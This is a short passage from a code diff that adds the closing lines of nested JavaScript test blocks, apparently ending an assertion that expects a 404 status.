+        404,
+      );
+    });
+  });
+});
